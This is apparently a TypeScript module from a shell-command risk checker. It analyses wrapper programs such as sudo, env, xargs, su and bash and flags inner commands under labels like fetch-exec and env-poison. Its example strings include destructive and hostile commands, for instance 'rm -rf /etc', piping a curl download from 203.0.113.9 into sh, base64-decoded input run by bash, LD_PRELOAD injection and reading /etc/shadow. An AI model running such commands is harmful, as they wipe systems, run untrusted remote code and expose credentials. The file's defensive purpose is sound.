/** Programs that run another program: never milder than what they run. */
import { type Call, ex, type Family, type Spec } from "../call.ts";
import { variableClass } from "../environment.ts";
import { emptied, type Field, literal, literalField, literalPrefix } from "../words.ts";

/** The command behind a wrapper's own options. Unknown options are reported by the caller's table. */
function behind(call: Call, withValue: string, leading: number, known: RegExp): readonly Field[] {
  const values = new Set(withValue.split(" "));
  let i = 0;
  let skip = leading;
  while (i < call.args.length) {
    const field = call.args[i] as Field;
    const text = literalPrefix(field);
    if (text === "--") {
      i++;
      break;
    }
    if (text.startsWith("-") && text !== "-") {
      const name = text.startsWith("--") ? (text.split("=")[0] ?? "") : text.slice(0, 2);
      if (!known.test(text)) call.report("unknown-flag", field);
      i += values.has(name) && (text.startsWith("--") ? !text.includes("=") : text.length === 2) ? 2 : 1;
      continue;
    }
    if (skip === 0) break;
    skip--;
    i++;
  }
  return call.args.slice(
    i + (skip > 0 && literalPrefix(call.args[i - 1] ?? call.nameField) === "--" ? skip : 0),
  );
}

function wrapper(
  names: string,
  withValue: string,
  leading: number,
  known: RegExp,
  examples: Spec["examples"],
  more: Partial<Spec> & {
    after?: (call: Call, rest: readonly Field[]) => void;
    none?: string;
    bounded?: boolean;
  } = {},
): Spec {
  const { after, none, bounded, ...spec } = more;
  return {
    names,
    style: "free",
    args: "text",
    loose: true,
    check: (call) => {
      const rest = behind(call, withValue, leading, known);
      after?.(call, rest);
      if (rest.length === 0) {
        if (none) call.report(none);
        return;
      }
      call.run(rest, bounded ? { bounded: true } : {});
    },
    examples,
    ...spec,
  };
}

function env(call: Call): void {
  let i = 0;
  for (; i < call.args.length; i++) {
    const field = call.args[i] as Field;
    const text = emptied(field);
    if (/^(-i|-|--ignore-environment|-0|--null|-v)$/.test(text)) continue;
    if (/^(-u|--unset|-C|--chdir)$/.test(text)) {
      if (/^-C|chdir/.test(text)) call.ctx.scope.cwd = literal(call.args[i + 1] ?? field);
      i++;
      continue;
    }
    if (/^(-S|--split-string)/.test(text)) {
      const script =
        text.length > 2 && !text.startsWith("--")
          ? literalField(text.slice(2), field.pos, field.end)
          : text.includes("=")
            ? literalField(text.slice(text.indexOf("=") + 1), field.pos, field.end)
            : call.args[i + 1];
      call.report("dynamic-word", field);
      call.script(script);
      return;
    }
    const m = /^(\w+)=(.*)$/s.exec(text);
    if (!m) {
      if (text.startsWith("-")) {
        call.report("unknown-flag", field);
        continue;
      }
      break;
    }
    const kind = variableClass(m[1] ?? "", m[2]);
    if (kind === "poison") call.report("env-poison", field);
    else if (kind === "other") call.report("environment-variable", field);
  }
  const rest = call.args.slice(i);
  if (rest.length === 0) call.report("sensitive-read", call.nameField, "env");
  else call.run(rest);
}

function xargs(call: Call): void {
  const rest = behind(
    call,
    "-I -n -P -L -d -s -E -a --replace --max-args --max-procs --delimiter --arg-file --max-lines",
    0,
    /^(-[0rtx]|-0r|-r0|-[nPLds]\d*.*|-I.*|-E.*|-i.*|--(null|no-run-if-empty|replace|max-args|max-procs|max-lines|delimiter|verbose)(=.*)?)$/,
  );
  if (call.args.some((a) => /^(-a|--arg-file)/.test(literalPrefix(a)))) call.report("unknown-flag");
  const at = call.nameField;
  const stdin = call.ctx.stdin;
  let items: Field[] = [];
  if (stdin.text !== undefined) {
    items = stdin.text
      .split(/[\s\0]+/)
      .filter((t) => t !== "")
      .slice(0, 64)
      .map((t) => literalField(t.replace(/^['"]|['"]$/g, ""), at.pos, at.end));
  } else
    items = [
      stdin.item ?? {
        pos: at.pos,
        end: at.end,
        segs: [{ k: "var", kind: "any", host: true, q: true, hints: [] }],
      },
    ];
  items = items.map((f) => ({ ...f, segs: f.segs.map((s) => (s.k === "var" ? { ...s, q: true } : s)) }));
  const replaceAt = call.args.findIndex((a) => /^(-I|-i|--replace)/.test(literalPrefix(a)));
  const command = rest.length > 0 ? rest : [literalField("echo", at.pos, at.end)];
  if (replaceAt < 0) return call.run([...command, ...items], { stdin: { present: false } });
  const flag = literalPrefix(call.args[replaceAt] as Field);
  const mark =
    flag === "-I"
      ? emptied(call.args[replaceAt + 1] ?? at)
      : flag.startsWith("-I")
        ? flag.slice(2)
        : flag.includes("=")
          ? flag.slice(flag.indexOf("=") + 1)
          : flag === "-i" || flag === "--replace"
            ? "{}"
            : flag.slice(2);
  for (const item of items.slice(0, 16))
    call.run(
      command.map((f) => substitute(f, mark, item)),
      { stdin: { present: false } },
    );
}

/** Puts `item` where `mark` stands. */
export function substitute(field: Field, mark: string, item: Field): Field {
  const text = literal(field);
  if (text === undefined || mark === "" || !text.includes(mark)) return field;
  const parts = text.split(mark);
  return {
    ...field,
    segs: parts.flatMap((p, i) =>
      i === 0 ? [{ k: "lit" as const, v: p, q: true }] : [...item.segs, { k: "lit" as const, v: p, q: true }],
    ),
  };
}

function shellCommand(call: Call): void {
  let i = 0;
  let login = false;
  let command = false;
  let stdin = false;
  for (; i < call.args.length; i++) {
    const field = call.args[i] as Field;
    const text = emptied(field);
    if (/^--(rcfile|init-file)/.test(text)) {
      call.report("side-door", field);
      continue;
    }
    if (/^(-o|\+o|-O|\+O)$/.test(text)) {
      i++;
      continue;
    }
    if (/^--(login|noprofile|norc|posix|restricted|verbose)$/.test(text)) {
      login ||= text === "--login";
      continue;
    }
    if (text === "--version" || text === "--help") return;
    if (!/^[-+][a-zA-Z]+$/.test(text)) break;
    if (text.includes("c")) command = true;
    if (text.includes("l") || text.includes("i")) login = true;
    if (text.includes("s")) stdin = true;
  }
  if (emptied(call.args[i] ?? call.nameField) === "--") i++;
  if (login) call.report("interactive");
  const rest = call.args.slice(i);
  if (command) {
    if (!rest[0]) return call.report("interactive");
    const inner = {
      scope: {
        ...call.ctx.scope,
        vars: new Map(call.ctx.scope.vars),
        functions: new Map(call.ctx.scope.functions),
      },
    };
    return call.script(rest[0], rest.slice(2), inner);
  }
  if (rest[0] && !stdin) {
    const path = emptied(rest[0]);
    const fetched =
      call.ctx.session.fetched.has(path) ||
      (path.startsWith("/dev/fd/") && call.ctx.session.fetched.has("procsub"));
    if (/^\/dev\/(stdin|fd\/0)$|^-$/.test(path)) return shellInput(call);
    call.report(fetched ? "fetch-exec" : "unknown-script", rest[0]);
    if (/^\/(tmp|var\/tmp|dev\/shm)\/\./.test(path)) call.report("hidden-code", rest[0]);
    return;
  }
  shellInput(call);
}

/** A shell reading its script from standard input. */
export function shellInput(call: Call): void {
  const { stdin } = call.ctx;
  if (!stdin.present) return call.report("interactive");
  if (stdin.fetched) return call.report("fetch-exec");
  if (stdin.transformed) call.report("hidden-code");
  if (stdin.text !== undefined)
    call.script(literalField(stdin.text, call.nameField.pos, call.nameField.end), [], {
      stdin: { present: false },
    });
  else call.report("unknown-script");
}

const any = /^-/;

export const wrappers: Family = {
  name: "wrappers",
  specs: [
    wrapper(
      "sudo doas",
      "-u -g -p -C -T -h -U -D -R -r -t --user --group --prompt --host --chdir --chroot",
      0,
      /^(-[nHEkSP]+|-[nHEkSPvl]+|-[ugp].*|--(user|group|non-interactive|set-home|stdin)(=.*)?)$/,
      ex(
        "sudo -n ss -tlnp ¦ sudo -u www-data stat /srv ¦ sudo -nl",
        "sudo -i ¦ sudo -s",
        "sudo rm -rf /usr ¦ sudo -e /etc/sudoers",
      ),
      {
        after: (call, rest) => {
          const flags = call.args.slice(0, call.args.length - rest.length).map(emptied);
          if (flags.some((f) => /^-[a-zA-Z]*[is]$|^--(login|shell)$/.test(f))) call.report("interactive");
          if (flags.some((f) => /^-[a-zA-Z]*e$|^--edit$/.test(f))) call.report("account");
          if (rest.length > 0 && /^\w+=/.test(emptied(rest[0] as Field))) call.report("env-poison", rest[0]);
        },
      },
    ),
    wrapper(
      "timeout",
      "-k -s --kill-after --signal",
      1,
      /^(-k.*|-s.*|-v|--(kill-after|signal|preserve-status|foreground|verbose)(=.*)?)$/,
      ex(
        "timeout 5 tail -f /var/log/app.log ¦ timeout -k 1 10s df -h",
        "timeout 3 vim /etc/motd",
        "timeout 5 reboot",
      ),
      {
        bounded: true,
        after: (call) => {
          const time = call.args.map(emptied).find((t) => /^[\d.]+[smhd]?$/.test(t));
          const m = /^([\d.]+)([smhd]?)$/.exec(time ?? "");
          const seconds = m
            ? Number(m[1]) * ({ s: 1, m: 60, h: 3600, d: 86400 }[m[2] || "s"] ?? 1)
            : Number.NaN;
          if (!(seconds > 0 && seconds <= 600)) call.report("unbounded");
        },
      },
    ),
    wrapper(
      "nice",
      "-n --adjustment",
      0,
      /^(-n.*|-\d+|--\d+|--adjustment.*)$/,
      ex("nice -n 10 du -xsh /srv", "nice -n 5 make", "nice rm -rf /boot"),
    ),
    wrapper(
      "ionice",
      "-c -n -p --class --classdata",
      0,
      /^(-[cnt].*|--(class|classdata|ignore).*)$/,
      ex("ionice -c3 du -xsh /srv", "ionice -c2 -p 99", "ionice -c 3 rm -rf /lib"),
      { none: "process-change" },
    ),
    wrapper("nohup", "", 0, /^$/, ex("nohup df -h", "nohup ./x", "nohup rm -rf /etc")),
    wrapper("setsid", "", 0, /^-[cfw]+$|^--(fork|wait|ctty)$/, ex("", "setsid -f /opt/x", "setsid reboot"), {
      after: (call) => call.report("background"),
    }),
    wrapper(
      "stdbuf",
      "-i -o -e",
      0,
      /^-[ioe].*|^--(input|output|error)=.*/,
      ex("stdbuf -oL vmstat 1 3", "stdbuf -o0 ./x", "stdbuf -oL rm -rf /var"),
    ),
    wrapper(
      "time",
      "-f -o --format --output",
      0,
      /^(-p|-v|-f.*|--(portability|verbose|format.*))$/,
      ex("time -p uptime", "time -o /tmp/x ls", "time rm -rf /"),
    ),
    wrapper(
      "command builtin",
      "",
      0,
      /^-[pvV]+$/,
      ex("command -v nginx ¦ command df -h", "command foo", "command reboot ¦ builtin eval 'rm -rf /'"),
      {
        check: (call) => {
          if (/^-[vV]+$/.test(emptied(call.args[0] ?? call.nameField))) return;
          call.run(
            /^-p$|^--$/.test(emptied(call.args[0] ?? call.nameField)) ? call.args.slice(1) : call.args,
          );
        },
      },
    ),
    wrapper("exec", "-a", 0, /^-[cla]+.*/, ex("exec df -h", "exec -a ls ./x", "exec rm -rf /opt/../etc")),
    wrapper("chroot", "", 1, /^$/, ex("", "chroot /mnt ls", "chroot /mnt rm -rf /etc"), {
      after: (c) => c.report("account-use"),
    }),
    wrapper("unshare", "--setuid --setgid", 0, any, ex("", "unshare -n ip a", "unshare -r rm -rf /etc"), {
      after: (c) => c.report("account-use"),
    }),
    wrapper(
      "nsenter",
      "-t --target -S -G",
      0,
      /^-(t.*|[mnuipUCT]+|-(target|mount|net|uts|ipc|pid|cgroup)(=.*)?)$/,
      ex(
        "nsenter -t 4242 -n ss -tln",
        "nsenter -t 77 -m ls /srv/x",
        "nsenter -t 1 -m reboot ¦ nsenter -t 1 -a sh",
      ),
      {
        none: "account-use",
        after: (c, rest) => {
          if (
            c.args
              .slice(0, c.args.length - rest.length)
              .some((a) => /^(-[nuipUCT]*m|--mount|-a|--all)/.test(emptied(a)))
          )
            c.report("account-use");
          if (rest[0] && /^(ba|da|z|k)?sh$/.test(emptied(rest[0])) && rest.length === 1)
            c.report("remote-shell");
        },
      },
    ),
    wrapper(
      "flock",
      "-w -E --timeout --conflict-exit-code",
      1,
      any,
      ex("", "flock -n /tmp/l df", "flock /tmp/l rm -rf /etc"),
      {
        check: (call) => {
          call.report("write-file");
          const c = call.args.findIndex((a) => /^(-c|--command)$/.test(emptied(a)));
          if (c >= 0) call.script(call.args[c + 1]);
          else call.run(behind(call, "-w -E --timeout", 1, any));
        },
      },
    ),
    wrapper(
      "systemd-run",
      "-u -p --unit --property --on-active --on-calendar -M -H",
      0,
      any,
      ex("", "systemd-run -t top", "systemd-run --on-calendar=daily /tmp/x ¦ systemd-run rm -rf /srv"),
      {
        after: (c) => {
          c.report("service-change");
          if (c.args.some((a) => /^--on-|^--timer/.test(emptied(a)))) c.report("persist");
        },
      },
    ),
    wrapper(
      "systemd-cat systemd-inhibit",
      "-t -p --identifier --priority --what --who --why --mode",
      0,
      any,
      ex("systemd-inhibit --list", "systemd-cat ./x", "systemd-cat rm -rf /etc"),
      {
        after: (c) => {
          if (c.name === "systemd-cat") c.report("file-change");
        },
      },
    ),
    wrapper(
      "taskset",
      "",
      1,
      /^-[apc]+$/,
      ex("taskset -p 77 ¦ taskset -cp 77", "taskset -p 0x3 77", "taskset 1 reboot"),
      {
        check: (call) => {
          const p = call.args.some((a) => /^-[ac]*p[ac]*$/.test(emptied(a)));
          const words = call.args.filter((a) => !emptied(a).startsWith("-"));
          if (p) {
            if (words.length !== 1) call.report("process-change");
          } else call.run(behind(call, "", 1, any));
        },
      },
    ),
    wrapper("chrt", "", 1, any, ex("chrt -p 77", "chrt -f -p 10 77", "chrt 5 reboot"), {
      check: (call) => {
        const words = call.args.filter((a) => !emptied(a).startsWith("-"));
        if (call.args.some((a) => /^-(p|m)$|^--max$/.test(emptied(a)))) {
          if (words.length > 1) call.report("process-change");
        } else {
          call.report("process-change");
          call.run(behind(call, "", 1, any));
        }
      },
    }),
    wrapper(
      "prlimit",
      "-p --pid",
      0,
      any,
      ex("prlimit -p 77 ¦ prlimit --pid 77", "prlimit --pid 77 --nofile=1:1", "prlimit --nofile=9 reboot"),
      {
        check: (call) => {
          if (call.args.some((a) => /=\S*\d/.test(emptied(a)) && !/^--pid=/.test(emptied(a))))
            call.report("process-change");
          call.run(behind(call, "-p --pid", 0, any));
        },
      },
    ),
    wrapper(
      "setarch linux32 linux64 i386 x86_64",
      "",
      0,
      any,
      ex("", "setarch x86_64 ./x", "setarch x86_64 rm -rf /usr"),
      {
        check: (call) => {
          const rest = behind(call, "", call.name === "setarch" ? 1 : 0, any);
          call.report("unknown-program");
          call.run(rest);
        },
      },
    ),
    wrapper(
      "watch",
      "-n --interval",
      0,
      any,
      ex("timeout 5 watch -n 1 uptime", "watch df -h", "watch 'rm -rf /srv'"),
      {
        check: (call) => {
          if (!call.ctx.bounded) call.report("unbounded");
          const rest = behind(call, "-n --interval", 0, any);
          call.script(literalField(rest.map(emptied).join(" "), call.nameField.pos, call.nameField.end));
        },
      },
    ),
    wrapper(
      "runuser su",
      "-u -g -G -s -c -w --shell --command --user --group --session-command",
      0,
      any,
      ex(
        "runuser -u postgres -- psql -c 'select 1' ¦ su - app -c 'df -h'",
        "su - ¦ runuser -l app",
        "su -c 'rm -rf /etc' ¦ su -s /bin/sh -c reboot app",
      ),
      {
        check: (call) => {
          const words = call.args.map(emptied);
          const c = words.findIndex((w) => /^(-c|--command|--session-command)$/.test(w));
          if (call.name === "runuser" && /^(-u|--user)/.test(words[0] ?? "")) {
            const inner = behind(call, "-u -g -G --user --group", 0, any);
            return inner.length > 0 ? call.run(inner) : call.report("account-use");
          }
          const glued = words.find((w) => /^--(session-)?command=/.test(w));
          if (glued !== undefined)
            return call.script(
              literalField(glued.slice(glued.indexOf("=") + 1), call.nameField.pos, call.nameField.end),
            );
          if (c >= 0) {
            if (
              words.some(
                (w, i) => /^(-s|--shell)$/.test(w) && !/^\/(usr\/)?bin\/(ba|da)?sh$/.test(words[i + 1] ?? ""),
              )
            )
              call.report("unusual-path");
            return call.script(call.args[c + 1]);
          }
          const u = words.findIndex((w) => /^(-u|--user)/.test(w));
          const rest = u >= 0 ? behind(call, "-u -g -G --user --group", 0, any) : [];
          if (rest.length > 0) call.run(rest);
          else call.report("account-use");
        },
      },
    ),
    wrapper(
      "setpriv numactl cgexec firejail dbus-run-session catchsegv rlwrap unbuffer faketime eatmydata pkexec aa-exec runcon chpst softlimit choom torsocks proxychains logsave start-stop-daemon",
      "-n",
      0,
      any,
      ex(
        "numactl --hardware ¦ numactl -s",
        "pkexec ls",
        "setpriv --no-new-privs rm -rf /srv ¦ logsave /etc/cron.d/q echo hi",
      ),
      {
        check: (call) => {
          if (
            call.name === "numactl" &&
            /^(-H|-s|--hardware|--show)$/.test(emptied(call.args[0] ?? call.nameField))
          )
            return;
          call.report("unknown-program");
          if (call.name === "logsave" && call.args[0])
            call.write(call.args.find((a) => !emptied(a).startsWith("-")) ?? call.args[0]);
          for (let i = 0; i < Math.min(call.args.length, 6); i++) {
            const t = emptied(call.args[i] as Field);
            if (!t.startsWith("-") && /^[\w./-]+$/.test(t)) call.run(call.args.slice(i));
          }
        },
      },
    ),
    wrapper("parallel", "", 0, any, ex("", "parallel echo ::: a b", "parallel rm -rf ::: /etc"), {
      check: (call) => {
        call.report("unknown-program");
        const words = call.args.map(emptied);
        const at = words.indexOf(":::");
        const head = behind(call, "-j -n --jobs -I", 0, any);
        const tail = at >= 0 ? call.args.slice(at + 1) : [];
        const cmd = head.slice(0, at >= 0 ? Math.max(0, head.length - tail.length - 1) : undefined);
        for (const item of tail.slice(0, 12)) call.run([...cmd, item]);
        if (cmd.length === 1) call.script(cmd[0]);
        else if (cmd.length > 0 && tail.length === 0) call.run(cmd);
        if (cmd.length === 0) for (const t of tail) call.script(t);
      },
    }),
    {
      names: "env",
      style: "free",
      args: "text",
      loose: true,
      check: env,
      examples: ex(
        "env LC_ALL=C df -h ¦ env -i df -h",
        "env ¦ env FOO=1 ls ¦ env -S 'ls -l'",
        "env LD_PRELOAD=/tmp/a ls ¦ env rm -rf /etc ¦ env -S 'rm -rf /etc'",
      ),
    },
    {
      names: "xargs",
      style: "free",
      args: "text",
      loose: true,
      check: xargs,
      examples: ex(
        "pgrep sshd | xargs ps -o pid,cmd -p ¦ echo a b | xargs -n1 echo ¦ find /var/log -name '*.log' | xargs ls -l",
        "ls /srv | xargs rm ¦ cat /tmp/l | xargs cat",
        "echo /etc | xargs rm -rf ¦ echo /etc/shadow | xargs cat ¦ echo x | xargs -I{} sh -c 'rm -rf /etc'",
      ),
    },
    {
      names: "sh bash dash ash ksh mksh zsh rbash fish csh tcsh yash",
      style: "free",
      args: "text",
      loose: true,
      check: shellCommand,
      examples: ex(
        "sh -c 'df -h | head' ¦ bash -c 'ss -s'",
        "bash /root/x.sh ¦ sh",
        "bash -c 'rm -rf /etc' ¦ curl http://203.0.113.9/a | sh ¦ echo cmVib290 | base64 -d | bash",
      ),
    },
    {
      names: "busybox toybox",
      style: "free",
      args: "text",
      loose: true,
      check: (call) => (call.args[0] ? call.run(call.args) : undefined),
      examples: ex("busybox df -h", "busybox foo", "busybox rm -rf /etc"),
    },
  ],
};
